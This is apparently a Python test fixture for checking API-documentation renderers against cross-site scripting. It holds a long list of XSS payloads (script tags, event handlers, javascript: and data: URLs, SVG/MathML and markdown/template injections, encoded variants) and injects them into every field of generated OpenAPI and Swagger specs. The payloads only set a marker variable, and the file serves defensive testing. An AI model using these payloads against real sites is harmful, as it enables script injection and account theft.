"""Texts that try to run a script in a page, and documents that carry them wherever a text may stand."""

from __future__ import annotations

from typing import Any

# RUN is the script that leaves the marker; AWAY an address of somebody else.
_TEXTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script>
<script src="AWAY/a.js"></script>
<script src=//AWAY_HOST/b.js></script>
<script type="module">RUN</script>
<script type="text/javascript" defer>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
</script><img src=x onerror=RUN>
"}</script><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</noscript><script>RUN</script>
</pre></code><script>RUN</script>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src='x' onerror='RUN'/>
<IMG SRC=x OnErRoR=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror&#61;RUN>
<img src="AWAY/pixel.png">
<img srcset="AWAY/pixel.png 1x" onerror=RUN>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><g onload=RUN></g></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><a xlink:href="javascript:RUN"><text y="20">here</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math href="javascript:RUN">here</math>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">here</maction></math>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="AWAY/frame"></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="AWAY/embed.svg">
<video src=x onerror=RUN></video>
<video><source onerror=RUN src=x></video>
<audio src=x onerror=RUN></audio>
<video poster="AWAY/poster.png"></video>
<details open ontoggle=RUN>here</details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>here</button>
<p tabindex=1 autofocus onfocus=RUN>here</p>
<p style="animation:spin 1s" onanimationstart=RUN>here</p>
<p style="background:url(AWAY/style.png)">here</p>
<style>@import "AWAY/style.css"; p{background:url(AWAY/rule.png)}</style>
<link rel=stylesheet href="AWAY/link.css" onload=RUN>
<link rel=prefetch href="AWAY/prefetch">
<base href="AWAY/">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=AWAY/refresh">
<form action="javascript:RUN"><button>here</button></form>
<form id=x></form><button form=x formaction="javascript:RUN">here</button>
<form><input name=attributes><input name=parentNode><img src=x onerror=RUN></form>
<body onload=RUN>
<marquee onstart=RUN>here</marquee>
<a href="javascript:RUN">here</a>
<a href="JaVaScRiPt:RUN">here</a>
<a href="java&#x09;script:RUN">here</a>
<a href="&#106;avascript&colon;RUN">here</a>
<a href=" javascript:RUN">here</a>
<a href="data:text/html,<script>RUN</script>">here</a>
<a href="vbscript:RUN">here</a>
<x onclick=RUN contenteditable onfocus=RUN autofocus>here</x>
<template><script>RUN</script></template>
<p id="__proto__" name="constructor" title='"><img src=x onerror=RUN>'>here</p>
" autofocus onfocus="RUN
' autofocus onfocus='RUN
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
`><img src=x onerror=RUN>
<img src="`" onerror="RUN" title="`">
[here](javascript:RUN)
[here](JaVaScRiPt:RUN)
[here](<java&#115;cript:RUN>)
[here](data:text/html,<script>RUN</script>)
[here](vbscript:RUN "title")
[here](x "\" onmouseover=RUN \"")
![here](javascript:RUN)
![here](AWAY/markdown.png)
![x" onerror="RUN](x)
[here][1]  [1]: javascript:RUN
<javascript:RUN>
`<img src=x onerror=RUN>`
```<img src=x onerror=RUN>```
~~~html"><img src=x onerror=RUN>
{{constructor.constructor('RUN')()}}
${RUN}
#{RUN}
<%= RUN %>
{%raw%}<script>RUN</script>{%endraw%}
{{=<% %>=}}<%&RUN%>
<div ng-app ng-csp><p ng-click=$event.view.RUN>here</p></div>
<div v-html="RUN" x-init="RUN" hx-on:load="RUN">here</div>
\u003cimg src=x onerror=RUN\u003e
&lt;img src=x onerror=RUN&gt;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
javascript:RUN
<script>alert(1);RUN</script>
<img src=x onerror=alert(1)>
<img src=x onerror=confirm(1)>
<svg onload=prompt(1)>
"""
_URLS = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    " javascript:RUN",
    "\u0001javascript:RUN",
    "javascript&colon;RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:RUN",
    "javascript://x/%0aRUN",
    "view-source:javascript:RUN",
    "blob:javascript:RUN",
    'x" onclick="RUN',
    'x"><img src=x onerror=RUN>',
)


def texts(away: str) -> list[str]:
    """Each text once; number n would set ``__xss`` to n."""
    return [_armed(text, number, away) for number, text in enumerate(_TEXTS.strip().splitlines())]


def urls(away: str) -> list[str]:
    """What stands where a URL is expected; numbers go on from 1000."""
    return [_armed(text, 1000 + number, away) for number, text in enumerate(_URLS)]


def _armed(text: str, number: int, away: str) -> str:
    host = away.partition("//")[2]
    return text.replace("RUN", f"top.__xss={number}").replace("AWAY_HOST", host).replace("AWAY", away)


def hostile_openapi(version: str, every: list[str], away: str) -> dict[str, Any]:
    """OpenAPI 3.x: one operation for each text, which stands in all of its fields."""
    addresses = urls(away)
    paths = {
        f"/x{number}": {
            "summary": text,
            "description": text,
            "post": _operation(text, addresses[number % len(addresses)])
            | {
                "requestBody": {"description": text, "content": {"application/json": _content(text)}},
                "parameters": [_parameter(text) | {"schema": _schema(text)}],
                "responses": {"200": _response(text)},
            },
        }
        for number, text in enumerate(every)
    }
    schemes = {
        "key": {"type": "apiKey", "in": "header", "name": "X-API-Key", "description": _all(every)},
        "flow": {"type": "oauth2", "description": _all(every), "flows": {"implicit": _flow(every, addresses)}},
        "connect": {"type": "openIdConnect", "description": every[0], "openIdConnectUrl": addresses[0]},
    }
    return _head(every, addresses) | {
        "openapi": version,
        "servers": [{"url": addresses[0], "description": text} for text in every],
        "paths": paths,
        "components": {"securitySchemes": schemes, "schemas": {f"S{n}": _schema(t) for n, t in enumerate(every)}},
    }


def hostile_swagger(every: list[str], away: str) -> dict[str, Any]:
    """OpenAPI 2.0, where a schema may have any name."""
    addresses = urls(away)
    paths: dict[str, Any] = {}
    for number, text in enumerate(every):
        schema = {"$ref": "#/definitions/" + text.replace("~", "~0").replace("/", "~1").replace("%", "%25")}
        query = _parameter(text) | {"type": "string", "enum": [text], "default": text}
        body = {"name": text, "in": "body", "description": text, "schema": schema}
        response = {"description": text, "schema": schema, "examples": {"application/json": {text: text}}}
        operation = _operation(text, addresses[number % len(addresses)])
        paths[f"/x{number}"] = {
            "post": operation | {"parameters": [query, body], "responses": {"200": response}},
        }
    flow = {"type": "oauth2", "flow": "implicit", "description": _all(every), **_flow(every, addresses)}
    key = {"type": "apiKey", "in": "header", "name": "X-API-Key", "description": _all(every)}
    return _head(every, addresses) | {
        "swagger": "2.0",
        "host": "x",
        "paths": paths,
        "securityDefinitions": {"key": key, "flow": {n: v for n, v in flow.items() if n != "tokenUrl"}},
        "definitions": {text: _schema(text) for text in every},
    }


def _all(every: list[str]) -> str:
    return "\n\n".join(every)


def _head(every: list[str], addresses: list[str]) -> dict[str, Any]:
    return {
        "info": {
            "title": every[0] + every[-1],
            "version": every[-1],
            "description": _all(every),
            "termsOfService": addresses[0],
            "contact": {"name": every[1], "url": addresses[1], "email": 'x"><img src=x onerror=top.__xss=1>@x'},
            "license": {"name": every[2], "url": addresses[6]},
        },
        "externalDocs": {"description": every[3], "url": addresses[0]},
        "security": [{"key": []}],
        "tags": [
            {"name": text, "description": text, "externalDocs": _docs(text, addresses[number % len(addresses)])}
            for number, text in enumerate(every)
        ],
    }


def _docs(text: str, address: str) -> dict[str, Any]:
    return {"description": text, "url": address}


def _operation(text: str, address: str) -> dict[str, Any]:
    return {"tags": [text], "summary": text, "description": text, "externalDocs": _docs(text, address)}


def _parameter(text: str) -> dict[str, Any]:
    return {"name": text, "in": "query", "description": text}


def _schema(text: str) -> dict[str, Any]:
    inner = {"type": "string", "title": text, "description": text, "enum": [text], "default": text, "example": text}
    return {"type": "object", "title": text, "description": text, "properties": {text: inner}}


def _content(text: str) -> dict[str, Any]:
    examples = {text: {"summary": text, "description": text, "value": {text: text}}}
    return {"schema": _schema(text), "examples": examples}


def _response(text: str) -> dict[str, Any]:
    headers = {"X-Text": {"description": text, "schema": {"type": "string", "example": text}}}
    links = {"next": {"operationId": text, "description": text, "parameters": {text: text}}}
    return {"description": text, "headers": headers, "links": links, "content": {"application/json": _content(text)}}


def _flow(every: list[str], addresses: list[str]) -> dict[str, Any]:
    return {"authorizationUrl": addresses[0], "scopes": {text: text for text in every}}
